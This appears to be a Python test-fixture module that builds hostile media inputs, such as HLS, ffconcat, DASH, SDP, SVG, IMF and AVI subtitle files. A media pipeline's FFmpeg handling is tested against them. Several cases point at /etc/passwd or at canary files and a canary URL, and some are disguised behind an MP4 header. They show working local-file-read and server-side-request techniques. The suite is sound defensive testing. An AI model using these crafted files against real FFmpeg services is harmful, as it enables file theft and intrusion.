"""Texts that FFmpeg would obey if it were let: playlists, scripts, descriptions of streams, filter graphs."""

from __future__ import annotations

import random

from integration.hostile_boxes import box, ftyp
from integration.hostile_cases import BAD, Cases, Workshop

cases = Cases("text")

cases.add("plain text", BAD, b"This is not a video, whatever its name says.\n" * 20)
cases.add("nothing", BAD, b"")
cases.add("one byte", BAD, b"\0")
cases.add("random bytes", BAD, random.Random(5).randbytes(200_000))
cases.add("ansi art", BAD, b"\x1b[2J\x1b[31mred\x1b[0m\r\n" * 300)
cases.add("lavfi graph", BAD, b"movie=/etc/passwd,scale=64:48 [out0]\n")
cases.add("subtitles", BAD, b"1\n00:00:00,000 --> 00:00:01,000\n<img src=file:///etc/passwd>\n")
cases.add("shell script", BAD, b"#!/bin/sh\ncat /etc/passwd\n")
cases.add("hls of passwd", BAD, b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n")


def playlist(target: str) -> bytes:
    lines = (
        "#EXTM3U",
        "#EXT-X-TARGETDURATION:1",
        "#EXT-X-MEDIA-SEQUENCE:0",
        "#EXTINF:1,",
        target,
        "#EXT-X-ENDLIST",
        "",
    )
    return "\n".join(lines).encode()


def imitation(text: bytes) -> bytes:
    """A text that begins as a film: what a reader that guesses by content or by name might take for either."""
    return ftyp() + box(b"free", b"\n" + text)


@cases.made("hls of the canary film", BAD, lure=True)
def hls_file(workshop: Workshop) -> bytes:
    return playlist(f"file://{workshop.canary.film}")


@cases.made("hls of the canary host", BAD, lure=True)
def hls_host(workshop: Workshop) -> bytes:
    return playlist(f"{workshop.canary.url}/a.ts")


@cases.made("hls by concat protocol", BAD, lure=True)
def hls_concat(workshop: Workshop) -> bytes:
    return playlist(f"concat:{workshop.canary.url}/a?|file://{workshop.canary.text}")


@cases.made("hls behind ftyp", BAD, lure=True)
def hls_behind_ftyp(workshop: Workshop) -> bytes:
    return imitation(playlist(f"file://{workshop.canary.film}"))


@cases.made("ffconcat", BAD, lure=True)
def ffconcat(workshop: Workshop) -> bytes:
    return f"ffconcat version 1.0\nfile '{workshop.canary.film}'\nfile '{workshop.canary.url}/a.mp4'\n".encode()


@cases.made("ffconcat behind ftyp", BAD, lure=True)
def ffconcat_behind_ftyp(workshop: Workshop) -> bytes:
    return imitation(ffconcat(workshop))


@cases.made("dash", BAD, lure=True)
def dash(workshop: Workshop) -> bytes:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">'
        '<Period><AdaptationSet mimeType="video/mp4">'
        f'<Representation id="1" bandwidth="1"><BaseURL>{workshop.canary.url}/a.mp4</BaseURL>'
        '<SegmentBase indexRange="0-99"/></Representation></AdaptationSet></Period></MPD>'
    ).encode()


@cases.made("sdp", BAD, lure=True)
def sdp(workshop: Workshop) -> bytes:
    port = workshop.canary.url.rpartition(":")[2]
    return (
        f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
        f"m=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    ).encode()


@cases.made("svg with an image", BAD, lure=True)
def svg(workshop: Workshop) -> bytes:
    return (
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="64" height="48"><image xlink:href="file://{workshop.canary.film}" width="64" height="48"/>'
        f'<image href="{workshop.canary.url}/a.png" width="9" height="9"/></svg>'
    ).encode()


@cases.made("imf", BAD, lure=True)
def imf(workshop: Workshop) -> bytes:
    return (
        '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:'
        "0eb3d1b9-b77b-4d3f-bbe5-7c69b15dca84</Id><EditRate>25 1</EditRate><SegmentList><Segment><Path>"
        f"{workshop.canary.film}</Path></Segment></SegmentList></CompositionPlaylist>"
    ).encode()


@cases.made("avi whose subtitles are a playlist", BAD, lure=True)
def gab2(workshop: Workshop) -> bytes:
    """AVI subtitles are a file in the file, which FFmpeg opens by guessing what it is."""
    inner = playlist(f"{workshop.canary.url}/a.ts") + playlist(f"file://{workshop.canary.film}")
    subtitles = b"GAB2\0" + (2).to_bytes(2, "little") + bytes(4) + (4).to_bytes(2, "little")
    subtitles += len(inner).to_bytes(4, "little") + inner

    def chunk(kind: bytes, content: bytes) -> bytes:
        return kind + len(content).to_bytes(4, "little") + content + b"\0" * (len(content) % 2)

    def riff_list(kind: bytes, *parts: bytes) -> bytes:
        return chunk(b"LIST", kind + b"".join(parts))

    header = chunk(b"avih", (40_000).to_bytes(4, "little") + bytes(20) + (1).to_bytes(4, "little") + bytes(28))
    stream = chunk(b"strh", b"txts" + bytes(16) + (1).to_bytes(4, "little") + (25).to_bytes(4, "little") + bytes(28))
    content = riff_list(b"hdrl", header, riff_list(b"strl", stream, chunk(b"strf", bytes(40))))
    return chunk(b"RIFF", b"AVI " + content + riff_list(b"movi", chunk(b"00tx", subtitles)))
